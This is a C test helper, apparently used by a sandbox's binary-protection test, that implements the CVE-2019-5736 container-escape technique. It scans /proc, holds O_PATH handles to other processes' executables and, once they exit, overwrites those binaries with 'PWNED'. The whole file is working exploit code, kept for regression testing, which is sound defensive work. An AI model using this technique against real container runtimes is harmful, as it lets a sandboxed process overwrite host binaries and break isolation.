/* exe_grab: the attacker of tests/binary_protection.rs (CVE-2019-5736).
 * Run inside a sandbox, it watches /proc for up to SECONDS; every process
 * but itself whose /proc/PID/exe it can open (O_PATH) and which is neither
 * itself nor /bin/busybox is "grabbed". Once a grabbed process is gone
 * (no more ETXTBSY), it reopens the file for writing through
 * /proc/self/fd/N and writes "PWNED" at offset 0, retrying ETXTBSY for up
 * to 2 s. It prints "ready" after its first scan, then one line per
 * grabbed file: "wrote" or "write ERRNO", and last "grabbed N".
 *
 *   exe_grab SECONDS
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX 64

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

int main(int argc, char **argv) {
    double end = now() + (argc > 1 ? atof(argv[1]) : 3);
    struct stat self, bb;
    stat("/proc/self/exe", &self);
    if (stat("/bin/busybox", &bb) != 0) memset(&bb, 0, sizeof bb);
    pid_t me = getpid();
    int fds[MAX], pids[MAX], n = 0, first = 1;
    while (now() < end && n < MAX) {
        DIR *d = opendir("/proc");
        if (!d) return 1;
        struct dirent *e;
        while ((e = readdir(d)) && n < MAX) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == me) continue;
            int seen = 0;
            for (int i = 0; i < n; i++) seen |= pids[i] == pid;
            if (seen) continue;
            char p[64];
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            /* Hammer this pid while its exe cannot be opened (a process
             * of sandbox's before its exec, non-dumpable): what it execs
             * next is what we want. */
            double stop = now() + 0.05; /* not forever: PID 1 may stay so */
            for (int k = 0; k < 200000 && now() < stop; k++) {
                int fd = open(p, O_PATH | O_CLOEXEC);
                if (fd < 0) {
                    /* ENOENT also for a moment inside an exec. */
                    if (errno == EACCES || errno == EPERM || kill(pid, 0) == 0) continue;
                    break;
                }
                struct stat st;
                if (fstat(fd, &st) == 0
                    && !(st.st_dev == self.st_dev && st.st_ino == self.st_ino)
                    && !(st.st_dev == bb.st_dev && st.st_ino == bb.st_ino)) {
                    fds[n] = fd;
                    pids[n++] = pid;
                }
                else close(fd);
                break;
            }
        }
        closedir(d);
        if (first) {
            printf("ready\n");
            fflush(stdout);
            first = 0;
        }
        if (n > 0) {
            /* Give the others a moment, then stop watching. */
            int alive = 0;
            for (int i = 0; i < n; i++) alive |= kill(pids[i], 0) == 0;
            if (!alive) break;
        }
    }
    for (int i = 0; i < n; i++) {
        char p[64];
        snprintf(p, sizeof p, "/proc/self/fd/%d", fds[i]);
        double stop = now() + 2;
        int w = -1, err = 0;
        while (now() < stop) {
            w = open(p, O_WRONLY | O_CLOEXEC);
            if (w >= 0) break;
            err = errno;
            if (err != ETXTBSY) break;
            usleep(1000);
        }
        if (w >= 0) {
            if (pwrite(w, "PWNED", 5, 0) == 5) printf("wrote\n");
            else printf("write %d\n", errno);
            close(w);
        } else {
            printf("write %d\n", err);
        }
    }
    printf("grabbed %d\n", n);
    return 0;
}
